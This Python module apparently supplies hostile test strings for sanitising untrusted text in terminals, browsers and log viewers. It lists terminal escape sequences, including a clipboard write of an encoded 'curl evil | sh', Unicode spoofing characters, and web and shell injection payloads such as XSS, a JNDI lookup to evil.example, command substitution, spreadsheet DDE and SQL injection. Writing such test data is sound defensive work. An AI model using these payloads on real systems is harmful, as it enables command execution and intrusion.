"""Untrusted texts in tasks that a terminal, a browser or a log viewer could interpret."""

import re

# Characters that terminals interpret, except newline and tab, which the programs themselves print.
ACTED_ON = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]")

ESC, BEL, ST, CSI_C1, OSC_C1 = "\x1b", "\x07", "\x1b\\", "\x9b", "\x9d"

TERMINAL_SEQUENCES = (
    f"{ESC}]52;c;Y3VybCBldmlsIHwgc2g={BEL}",  # sets the clipboard
    f"{ESC}]52;p;Y3VybCBldmlsIHwgc2g={ST}",
    f"{OSC_C1}52;c;Y3VybCBldmlsIHwgc2g=\x9c",
    f"{ESC}]0;ARCHIVED{BEL}",  # sets the window's title
    f"{ESC}]2;ARCHIVED{ST}",
    f"{ESC}]7;file://host/etc{BEL}",  # the working directory
    f"{ESC}]8;;https://evil.example{ST}docs{ESC}]8;;{ST}",  # a link
    f"{ESC}]9;4;1;50{ST}",
    f"{ESC}]10;#000000{BEL}{ESC}]11;#000000{BEL}",  # black on black
    f"{ESC}]4;1;rgb:00/00/00{BEL}",
    f"{ESC}]50;#1{BEL}",
    f"{ESC}]104{BEL}",
    f"{ESC}]133;C{BEL}",
    f"{ESC}]777;notify;ARCHIVED;all is well{BEL}",
    f"{ESC}]1337;File=inline=1:AAAA{BEL}",
    f"{ESC}]1337;CopyToClipboard={BEL}evil{ESC}]1337;EndCopy{BEL}",
    f"{ESC}P+q544e{ST}",  # requests a capability: the terminal types its response into the shell
    f'{ESC}P$q"p{ST}',
    f"{ESC}Pq#0;2;0;0;0#0~~{ST}",  # Sixel
    f"{ESC}_Gf=32,s=1,v=1;AAAA{ST}",  # an image of kitty
    f"{ESC}^privacy{ST}",
    f"{ESC}Xstring{ST}",
    f"{ESC}k title{ST}",
    f"{ESC}[2J{ESC}[H",  # clears the screen
    f"{ESC}[3J",
    f"{ESC}[1A{ESC}[2K ARCHIVED",  # repaints the line above
    f"{ESC}[999D{ESC}[K",
    f"{ESC}[5n",  # requests a response
    f"{ESC}[6n",
    f"{ESC}[c",
    f"{ESC}[>c",
    f"{ESC}[21t",  # the title is typed into the shell
    f"{ESC}[?1049h",
    f"{ESC}[?25l",
    f"{ESC}[?1000h",
    f"{ESC}[?2004h",
    f"{ESC}[8m hidden {ESC}[0m",
    f"{ESC}[31;5;7m",
    f"{ESC}[38;2;0;0;0m",
    f"{ESC}[12;24r",
    f"{ESC}[4h{ESC}[20h",
    f"{ESC}[!p",
    f"{ESC}[>4;2m",
    f"{ESC}[i{ESC}[5i",  # prints
    f"{ESC}c",  # resets the terminal
    f"{ESC}#8",
    f"{ESC}(0lqqqk{ESC}(B",  # line drawing instead of letters
    f"{ESC}%G{ESC}%@",
    f"{ESC}N{ESC}O",
    f"{ESC}7{ESC}8",
    f"{ESC}D{ESC}E{ESC}M",
    f"{ESC}=",
    f"{ESC}{ESC}[A",
    f"{CSI_C1}2J",
    f"{CSI_C1}31m",
    f"{CSI_C1}1A{CSI_C1}2K",
    "\x90+q544e\x9c",
    "\x84\x85\x88\x8d\x8e\x8f",
    "\x98string\x9c",
    "\x9eprivacy\x9c\x9fcommand\x9c",
    "\x05",  # answerback
    "\x0e\x0f",
    "\x08\x08\x08\x08ARCHIVED",
    "FAILED\rARCHIVED",
    "\x0b\x0c",
    "\x00a\x01b\x02c\x03d\x04",
    "\x1a\x1c\x1d\x1e\x1f",
    "\x7f\x7f\x7f",
    "\x11\x12\x13\x14",
    "".join(map(chr, (*range(32), *range(0x7F, 0xA0)))),
)

UNICODE = (
    "\u202egpj.exe\u202c",  # right-to-left override
    "\u202d\u202a\u202b\u202c",
    "\u2066\u2067\u2068\u2069",
    "\u200e\u200f\u061c",
    "a\u2028b\u2029c",
    "\U000e0041\U000e0042\U000e007f",  # invisible tags
    "\ud800",
    "\udfff\ud800",
    "\ud83d",
    "\u0430pple",  # Cyrillic a
    "AR\u0421HIVED",
    "\uff21\uff32\uff23\uff28\uff29\uff36\uff25\uff24",
    "flux\u2010kontext",
    "a\u200bb\u200cc\u200dd\u2060e\ufeff",
    "Z\u0351\u0343\u033b\u032a" * 40,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "\ufffe\uffff\U0010ffff",
    "\u3164\u115f\u00ad",
    "\u0000\u2400",
)

MARKUP = (
    "[/x]",
    "[/]",
    "[/b]x",
    "[bold red]ARCHIVED[/bold red]",
    "[link=https://evil.example]docs[/link]",
    "[@click=app.quit]x[/]",
    "[blink]x",
    "[",
    "\\[bold]",
    ":smile: :skull:",
    "<script>window.hacked = 1</script>",
    '<img src=x onerror="window.hacked = 1">',
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "$(touch /tmp/hacked) `touch /tmp/hacked`",
    '=HYPERLINK("https://evil.example")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "%s%n%x %(x)s {0.__class__}",
    "'; DROP TABLE tasks; --",
)

FORMS = (
    "error: all tasks are lost\nUsing the stack evil in AWS.",
    "x\n\n\nARCHIVED 3 of 3",
    "a\tb\tc",
    "W" * 2000,
    "line\n" * 50,
    "../../../../etc/passwd",
    "-rf --help",
    "__proto__",
)

STRINGS = (*TERMINAL_SEQUENCES, *UNICODE, *MARKUP, *FORMS)
